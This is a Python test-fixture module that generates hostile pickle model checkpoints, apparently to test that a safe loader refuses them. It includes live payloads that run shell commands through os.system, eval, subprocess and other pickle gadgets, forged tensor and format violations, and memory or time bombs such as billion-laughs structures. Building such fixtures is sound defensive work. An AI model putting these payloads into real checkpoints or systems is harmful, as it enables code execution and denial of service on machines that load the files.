"""Hostile checkpoints: real files in the official structure, each with one attack inside.

`LIVE` attacks run a command when Python's own pickle reads them (a test proves that they do, so
that refusing them means something). `FORGED` ones break a promise of the format, `BOMBS` want time
or memory. Every attack is a function of (protocol, command) that returns the file's bytes.
"""

import io
import struct
import zipfile
from collections.abc import Callable
from typing import Any

import numpy as np
from official_pickles import (
    Global,
    New,
    Raw,
    Reduce,
    Tensor,
    Writer,
    call,
    checkpoint,
    easy,
    network,
    persistent,
    storage_bytes,
)

Attack = Callable[[int, str], bytes]
LIVE: dict[str, Attack] = {}
FORGED: dict[str, Attack] = {}
BOMBS: dict[str, Attack] = {}

WEIGHT = np.arange(12, dtype=np.float32).reshape(3, 4)
INIT = {"z_dim": 16, "rendering_kwargs": {"c_scale": 1.0}}
OS_SYSTEM = Global("os", "system")


def small(weight: Any = WEIGHT, **attributes: Any) -> Reduce:
    """A tiny network; the attack may be its weight, or an attribute."""
    tensors = {"decoder.net.0.weight": weight, "decoder.net.0.bias": np.ones(3, np.float32)}
    return network("TriPlaneGenerator", tensors, INIT, attributes)


def first(value: Any, protocol: int) -> bytes:
    """The attack as the first value of the file, before anything else is read."""
    return checkpoint({"G": small(), "G_ema": small()}, {"path": value}, protocol)


def deep(weight: Any, protocol: int) -> bytes:
    """The attack in place of a weight, deep within G_ema."""
    return checkpoint({"G": small(), "G_ema": small(weight)}, None, protocol)


def attack(table: dict[str, Attack], name: str) -> Callable[[Attack], Attack]:
    def register(function: Attack) -> Attack:
        table[name] = function
        return function

    return register


def simple(table: dict[str, Attack], name: str, make: Callable[[str], Any]) -> None:
    """An attack that is one value, put first."""
    table[name] = lambda protocol, command: first(make(command), protocol)


def forged_weight(name: str, make: Callable[[], Any]) -> None:
    """A broken promise in place of a weight."""
    FORGED[name] = lambda protocol, command: deep(make(), protocol)


def code_of(command: str) -> str:
    return f"__import__('os').system({command!r})"


# Calls that run a command

simple(LIVE, "os.system", lambda command: call("os", "system", command))
simple(LIVE, "posix.system", lambda command: call("posix", "system", command))
simple(LIVE, "subprocess.Popen", lambda c: call("subprocess", "check_call", ["sh", "-c", c]))
simple(LIVE, "builtins.eval", lambda c: call("builtins", "eval", code_of(c)))
simple(LIVE, "builtins.exec", lambda c: call("builtins", "exec", code_of(c)))
simple(LIVE, "pty.spawn", lambda c: call("pty", "spawn", ["sh", "-c", c]))
simple(LIVE, "runpy", lambda c: call("runpy", "_run_code", Raw(Writer(2).code(code_of(c))), {}))
simple(LIVE, "timeit", lambda c: call("timeit", "timeit", code_of(c), "pass", Raw(timer()), 1))
simple(
    LIVE,
    "getattr chain",
    lambda c: Reduce(
        call("builtins", "getattr", call("builtins", "__import__", "os"), "system"), (c,)
    ),
)
simple(
    LIVE,
    "functools.partial",
    lambda c: Reduce(call("functools", "partial", OS_SYSTEM, c), ()),
)
simple(
    LIVE,
    "operator.methodcaller",
    lambda c: Reduce(
        call("operator", "methodcaller", "system", c), (call("importlib", "import_module", "os"),)
    ),
)
simple(
    LIVE,
    "map over os.system",
    lambda c: call("builtins", "list", call("builtins", "map", OS_SYSTEM, [c])),
)
simple(
    LIVE,
    "set state to a function",
    lambda c: New(Global("dnnlib.util", "EasyDict"), [{"__setstate__": OS_SYSTEM}, c]),
)


def timer() -> bytes:
    return Writer(2).code(Global("time", "perf_counter"))


@attack(LIVE, "nested reduce inside a state dict")
def _nested(protocol: int, command: str) -> bytes:
    return deep(call("builtins", "eval", code_of(command)), protocol)


@attack(LIVE, "argument of an allowed function")
def _argument(protocol: int, command: str) -> bytes:
    return deep(
        call("torch._utils", "_rebuild_parameter", call("os", "system", command), False, {}),
        protocol,
    )


@attack(LIVE, "attribute of a plain object")
def _plain_object(protocol: int, command: str) -> bytes:
    kind = Global("training.triplane", "OSGDecoder")
    return checkpoint({"G_ema": New(kind, [{"x": call("os", "system", command)}])}, None, protocol)


@attack(LIVE, "INST instruction")
def _inst(protocol: int, command: str) -> bytes:
    return first(Raw(b"(" + Writer(2).code(command) + b"ios\nsystem\n"), protocol)


@attack(LIVE, "OBJ instruction")
def _obj(protocol: int, command: str) -> bytes:
    return first(Raw(b"(cos\nsystem\n" + Writer(2).code(command) + b"o"), protocol)


@attack(LIVE, "protocol 0 in the middle")
def _text_protocol(protocol: int, command: str) -> bytes:
    return first(Raw(f"cos\nsystem\n(V{command}\ntR".encode()), protocol)


@attack(LIVE, "protocol 0 alone")
def _protocol_0(protocol: int, command: str) -> bytes:
    return f"cos\nsystem\n(V{command}\ntR.".encode()


@attack(LIVE, "dotted name")
def _dotted(protocol: int, command: str) -> bytes:
    dotted = Writer(4).code(Global("shutil", "os.system"))  # STACK_GLOBAL walks through dots
    return first(Reduce(Raw(dotted), (command,)), 4)


@attack(LIVE, "dotted name in an allowed module")
def _dotted_allowed(protocol: int, command: str) -> bytes:
    dotted = Writer(4).code(Global("collections", "_sys.modules.__class__"))
    system = Reduce(Raw(dotted), ({"x": call("os", "system", command)},))
    return first(system, 4)


@attack(LIVE, "functions from the memo")
def _memo(protocol: int, command: str) -> bytes:
    writer = Writer(protocol)
    put = writer.name("os", "system") + b"r\xff\xff\x00\x00"
    got = Raw(b"j\xff\xff\x00\x00")
    return first([Raw(put), Reduce(got, (command,))], protocol)


@attack(LIVE, "copyreg._reconstructor")
def _reconstructor(protocol: int, command: str) -> bytes:
    made = call(
        "copyreg",
        "_reconstructor",
        Global("builtins", "object"),
        Global("builtins", "object"),
        None,
    )
    return first([made, call("os", "system", command)], protocol)


@attack(LIVE, "pickle within a storage")
def _inner_pickle(protocol: int, command: str) -> bytes:
    storage = storage_bytes(WEIGHT, little_endian=call("os", "system", command))
    return deep(Tensor(WEIGHT, storage=storage), protocol)


@attack(LIVE, "persistent id that runs")
def _inner_identifier(protocol: int, command: str) -> bytes:
    identifier = ("storage", call("os", "system", command), "0", "cpu", 12, None)
    return deep(Tensor(WEIGHT, storage=storage_bytes(WEIGHT, identifier=identifier)), protocol)


@attack(LIVE, "zip within a storage")
def _inner_zip(protocol: int, command: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", Writer(2).file(call("os", "system", command)))
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
    return deep(Tensor(WEIGHT, storage=buffer.getvalue()), protocol)


@attack(LIVE, "function of torch off the list")
def _torch_import(protocol: int, command: str) -> bytes:
    return first(
        Reduce(call("torch._utils", "_import_dotted_name", "os.system"), (command,)), protocol
    )


@attack(LIVE, "array of objects")
def _object_array(protocol: int, command: str) -> bytes:
    module = "numpy._core.multiarray"
    array = Reduce(Global(module, "_reconstruct"), (Global("numpy", "ndarray"), (0,), b"b"))
    code = Writer(protocol).code
    objects = code(call("numpy", "dtype", "O8", False, True))
    objects += code((3, "|", None, None, None, -1, -1, 63)) + b"b"
    state = (1, (1,), Raw(objects), False, [call("os", "system", command)])
    return first(Raw(code(array) + code(state) + b"b"), protocol)


# Names that no checkpoint has

for module, name in (
    ("torch", "load"),
    ("torch.hub", "load"),
    ("torch.jit", "load"),
    ("torch._utils", "_rebuild_tensor"),
    ("torch.storage", "UntypedStorage"),
    ("torch.nn.modules.module", "Module"),
    ("torch_utils.persistence", "_src_to_module"),
    ("dnnlib.util", "open_url"),
    ("collections", "defaultdict"),
    ("builtins", "getattr"),
    ("builtins", "bytearray"),
    ("numpy", "load"),
    ("numpy.core.multiarray", "fromfile"),
    ("_codecs", "decode"),
    ("", ""),
    ("os\x00", "system"),
    ("nerfgan_cli.checkpoints.format", "load_model"),
):
    simple(FORGED, f"{module!a}.{name}", lambda _, m=module, n=name: call(m, n))

# Promises broken

PERSISTENT = ("torch_utils.persistence", "_reconstruct_persistent_obj")

simple(FORGED, "persistent id", lambda _: Raw(Writer(2).code("id") + b"Q"))
simple(FORGED, "persistent id as text", lambda _: Raw(b"Pstorage\n"))
simple(FORGED, "extension 1", lambda _: Raw(b"\x82\x01"))
simple(FORGED, "extension 2", lambda _: Raw(b"\x83\x01\x01"))
simple(FORGED, "extension 4", lambda _: Raw(b"\x84\x01\x00\x00\x00"))
simple(FORGED, "out-of-band buffer", lambda _: Raw(b"\x97"))
simple(FORGED, "bytearray", lambda _: Raw(b"\x96" + struct.pack("<Q", 1 << 30)))
simple(FORGED, "NEWOBJ of a function", lambda _: New(Global("torch._utils", "_rebuild_tensor_v2")))
simple(
    FORGED,
    "NEWOBJ with arguments",
    lambda _: New(Global("dnnlib.util", "EasyDict"), arguments=(1,)),
)
simple(
    FORGED,
    "NEWOBJ_EX",
    lambda _: Raw(
        Writer(2).code(Global("subprocess", "Popen")) + Writer(2).code(("sh",)) + b"}\x92"
    ),
)
simple(
    FORGED,
    "NEWOBJ_EX of an allowed class",
    lambda _: Raw(Writer(2).code(Global("dnnlib.util", "EasyDict")) + b")}\x92"),
)
simple(FORGED, "call of a text", lambda _: Reduce("os.system", ("true",)))
simple(FORGED, "call of a class", lambda _: call("torch.nn.modules.container", "Sequential"))
simple(
    FORGED,
    "arguments in a list",
    lambda _: Raw(Writer(2).name("collections", "OrderedDict") + b"]R"),
)
simple(FORGED, "OrderedDict of arguments", lambda _: call("collections", "OrderedDict", [("a", 1)]))
simple(FORGED, "codec", lambda _: call("_codecs", "encode", "abc", "rot13"))
simple(FORGED, "codec that unpacks", lambda _: call("_codecs", "encode", b"abc".hex(), "zip"))
simple(FORGED, "codec with error handler", lambda _: call("_codecs", "encode", "a", "latin1", "x"))
simple(FORGED, "set of lists", lambda _: call("builtins", "set", [[1]]))
simple(FORGED, "integer as key", lambda _: {1: 2})
simple(FORGED, "tuple as key", lambda _: {("a",): 2})
simple(
    FORGED,
    "kind of object",
    lambda _: call(*PERSISTENT, {"type": "function", "version": 6, "class_name": "A", "state": {}}),
)
simple(
    FORGED,
    "object without state",
    lambda _: call(*PERSISTENT, {"type": "class", "version": 6, "class_name": "A"}),
)
simple(FORGED, "object of a list", lambda _: call(*PERSISTENT, [1]))


def builds(name: str, target: Callable[[], Any], *states: Any) -> None:
    """BUILD of a value with these states."""

    def make(protocol: int, command: str) -> bytes:
        code = Writer(protocol).code
        built = code(target()) + b"".join(code(state) + b"b" for state in states)
        return first(Raw(built), protocol)

    FORGED[f"BUILD {name}"] = make


def decoder() -> New:
    return New(Global("training.triplane", "OSGDecoder"))


builds("of a class", lambda: Global("training.triplane", "OSGDecoder"), {"__init__": 1})
builds(
    "of an allowed function",
    lambda: Global("torch._utils", "_rebuild_tensor_v2"),
    (None, {"__code__": 1}),
)
builds("with __class__", decoder, {"__class__": "x"})
builds("with __setstate__", decoder, {"__setstate__": "x"})
builds("with __dict__", decoder, {"__dict__": {"a": 1}})
builds("with __reduce_ex__", decoder, {"__reduce_ex__": "x"})
builds("with slots", decoder, (None, {"build": 1}))
builds("with both states", decoder, ({"a": 1}, {"state": 1}))
builds("with a list", decoder, [1])
builds("with None", decoder, None)
builds("twice", decoder, {"a": 1}, {"a": 2})
builds("of a dictionary", lambda: easy({"a": 1}), {"a": 1})
builds("of a list", lambda: [1], {"a": 1})
builds("of a tensor", lambda: Tensor(WEIGHT), {"storage": 1})
builds("of a persistent object", lambda: persistent("A", {"_parameters": {}}), {"state": 1})
builds(
    "of a dtype",
    lambda: call("numpy", "dtype", "f8", False, True),
    (3, "<", ("a", "b"), ("a",), {}, 8, 1, 16),
)
builds(
    "of a big-endian dtype",
    lambda: call("numpy", "dtype", "f8", False, True),
    (3, ">", None, None, None, -1, -1, 0),
)
simple(FORGED, "BUILD persistent with __class__", lambda _: persistent("A", {"__class__": 1}))

# Tensors

BIG = 1 << 40
for name, changed in {
    "oversize shape": {"shape": (BIG, BIG), "stride": (BIG, 1)},
    "shape of gigabytes": {"shape": (1 << 30,), "stride": (1,)},
    "shape beyond the storage": {"shape": (3, 5), "stride": (4, 1)},
    "stride beyond the storage": {"stride": (5, 1)},
    "repeated by stride 0": {"shape": (1 << 30,), "stride": (0,)},
    "one element too many by stride 0": {"shape": (13,), "stride": (0,)},
    "negative size": {"shape": (-3, -4)},
    "negative stride": {"offset": 11, "stride": (-4, -1)},
    "offset beyond the storage": {"offset": 1},
    "negative offset": {"offset": -1},
    "huge offset": {"offset": 1 << 100},
    "sizes of fractions": {"shape": (3.0, 4.0)},
    "sizes of truth values": {"shape": (True, True), "stride": (True, True)},
    "shape in a list": {"shape": [3, 4]},
    "shape and strides that differ": {"stride": (4,)},
    "hundreds of dimensions": {"shape": (1,) * 500, "stride": (1,) * 500},
    "offset as text": {"offset": "0"},
}.items():
    forged_weight(f"tensor with {name}", lambda c=changed: Tensor(WEIGHT, **c))

for name, storage in {
    "more elements announced": storage_bytes(WEIGHT, announced=1 << 40),
    "fewer elements announced": storage_bytes(WEIGHT, announced=3),
    "more elements counted": storage_bytes(WEIGHT, counted=13),
    "both counts forged": storage_bytes(WEIGHT, announced=1 << 40, counted=1 << 40),
    "negative counts": storage_bytes(WEIGHT, announced=-12, counted=-12),
    "another type": storage_bytes(WEIGHT, kind="DoubleStorage"),
    "an unknown type": storage_bytes(WEIGHT, kind="UntypedStorage"),
    "other parts": storage_bytes(WEIGHT, keys=("1", "2")),
    "big-endian numbers": storage_bytes(WEIGHT, little_endian=False),
    "another magic number": storage_bytes(WEIGHT, magic=1),
    "surplus bytes": storage_bytes(WEIGHT) + b"\0\0\0\0",
    "missing bytes": storage_bytes(WEIGHT)[:-4],
    "an identifier of a module": storage_bytes(WEIGHT, identifier=("module", "a", "b")),
    "an identifier of a text": storage_bytes(WEIGHT, identifier="storage"),
}.items():
    forged_weight(f"storage with {name}", lambda s=storage: Tensor(WEIGHT, storage=s))

forged_weight("storage of no bytes object", lambda: Tensor(WEIGHT, storage="text"))
forged_weight(
    "tensor of a list", lambda: call("torch._utils", "_rebuild_tensor_v2", [1], 0, (1,), (1,), 0, 0)
)
forged_weight("tensor of few arguments", lambda: call("torch._utils", "_rebuild_tensor_v2", 1))
forged_weight(
    "parameter of a number", lambda: call("torch._utils", "_rebuild_parameter", 1, False, {})
)
F8 = call("numpy", "dtype", "f8", False, True)
forged_weight(
    "scalar of objects",
    lambda: call(
        "numpy.core.multiarray", "scalar", call("numpy", "dtype", "O8", False, True), b"x"
    ),
)
forged_weight(
    "scalar of another size", lambda: call("numpy.core.multiarray", "scalar", F8, b"1234")
)
forged_weight("scalar of a list", lambda: call("numpy.core.multiarray", "scalar", F8, [1]))
NDARRAY = Global("numpy", "ndarray")


def array_with(state: Any) -> Callable[[int, str], bytes]:
    def make(protocol: int, command: str) -> bytes:
        code = Writer(protocol).code
        array = call("numpy.core.multiarray", "_reconstruct", NDARRAY, (0,), b"b")
        return first(Raw(code(array) + code(state) + b"b"), protocol)

    return make


FORGED["array of oversize shape"] = array_with((1, (BIG,), F8, False, b"12345678"))
FORGED["array of negative shape"] = array_with((1, (-1,), F8, False, b"12345678"))
FORGED["array with a crafted state"] = array_with({"data": 1})
FORGED["array with a list of data"] = array_with((1, (1,), F8, False, [1]))
simple(
    FORGED,
    "array of a class of its own",
    lambda _: call(
        "numpy.core.multiarray", "_reconstruct", Global("collections", "OrderedDict"), (0,), b"b"
    ),
)

# Values without end


@attack(FORGED, "list within itself")
def _cycle_list(protocol: int, command: str) -> bytes:
    return first(Raw(b"]r\xff\xff\x00\x00j\xff\xff\x00\x00a"), protocol)


@attack(FORGED, "dictionary within itself")
def _cycle_dict(protocol: int, command: str) -> bytes:
    key = Writer(2).code("a")
    return first(Raw(b"}r\xff\xff\x00\x00" + key + b"j\xff\xff\x00\x00s"), protocol)


@attack(FORGED, "tuple within itself")
def _cycle_tuple(protocol: int, command: str) -> bytes:
    return first(Raw(b"]r\xff\xff\x00\x00j\xff\xff\x00\x00\x85a"), protocol)


@attack(FORGED, "module within itself")
def _cycle_module(protocol: int, command: str) -> bytes:
    code = Writer(protocol).code
    again = Raw(b"j\xff\xff\x00\x00")
    state = {"_parameters": {}, "_buffers": {}, "_modules": {"again": again}}
    made = code(decoder()) + b"r\xff\xff\x00\x00" + code(state) + b"b"
    return checkpoint({"G_ema": persistent("A", {"_modules": {"a": Raw(made)}})}, None, protocol)


@attack(FORGED, "tensors that share one storage into a network larger than the file")
def _shared_storage(protocol: int, command: str) -> bytes:
    code = Writer(protocol).code
    big = np.zeros(100_000, np.float32)
    storage = code(call("torch.storage", "_load_from_bytes", storage_bytes(big)))
    weights: dict[str, Any] = {}
    hooks = call("collections", "OrderedDict")
    for index in range(50):
        source = Raw(b"j\xff\xff\x00\x00" if index else storage + b"r\xff\xff\x00\x00")
        arguments = (source, 0, (100_000,), (1,), False, hooks)
        weights[f"w{index}"] = Reduce(Global("torch._utils", "_rebuild_tensor_v2"), arguments)
    return checkpoint({"G_ema": network("TriPlaneGenerator", weights, INIT)}, None, protocol)


def bomb(name: str, code: Callable[[], bytes]) -> None:
    BOMBS[name] = lambda protocol, command: first(Raw(code()), protocol)


LAUGHS = b"".join(
    b"](" + (b"j" + struct.pack("<I", 1000 + n)) * 10 + b"e" + b"r" + struct.pack("<I", 1001 + n)
    for n in range(30)
)
bomb("billion laughs", lambda: b"](]r\xe8\x03\x00\x00" + LAUGHS + b"e")
bomb("lists nested 100,000 times", lambda: b"]" * 100_001 + b"a" * 100_000)
bomb("tuples nested 100,000 times", lambda: b")" + b"\x85" * 100_000)
bomb("nested tuple as a key", lambda: b"}" + b")" + b"\x85" * 100_000 + b"Ns")
bomb(
    "doubled tuple as a key", lambda: b"})" + b"r\x00\x01\x00\x00j\x00\x01\x00\x00\x86" * 64 + b"Ns"
)
bomb("ten million lists", lambda: b"(" + b"]" * 10_000_000 + b"t")
bomb("ten million marks", lambda: b"(" * 10_000_000 + b"t")
bomb("ten million sets", lambda: b"(" + b"\x8f" * 10_000_000 + b"t")
bomb("ten million copies from the memo", lambda: b"(]q\x01" + b"h\x01" * 5_000_000 + b"t")
bomb("bytes of an exabyte", lambda: b"\x8e" + struct.pack("<Q", 1 << 60))
bomb("text of an exabyte", lambda: b"\x8d" + struct.pack("<Q", 1 << 60))
bomb("frame of an exabyte", lambda: b"\x95" + struct.pack("<Q", 1 << 60) + b"N")
bomb("negative length", lambda: b"\x8b" + struct.pack("<i", -1))
bomb("integer of gigabytes", lambda: b"\x8b" + struct.pack("<i", 2**31 - 1))
bomb("integer of 255 bytes", lambda: b"\x8a\xff" + b"\x7f" * 255)
bomb("megabytes of short texts", lambda: b"(" + (b"X\x00\x1f\x00\x00" + b"x" * 7936) * 4000 + b"t")
bomb(
    "byte strings that unfold",  # one text of a megabyte, encoded 100,000 times
    lambda: b"(X\x00\x00\x10\x00" + b"x" * (1 << 20) + b"q\x01c_codecs\nencode\nq\x02"
    + b"X\x06\x00\x00\x00latin1q\x03" + b"h\x02h\x01h\x03\x86R" * 100_000 + b"t",
)  # fmt: skip

PROTOCOLS = (2, 3, 4)
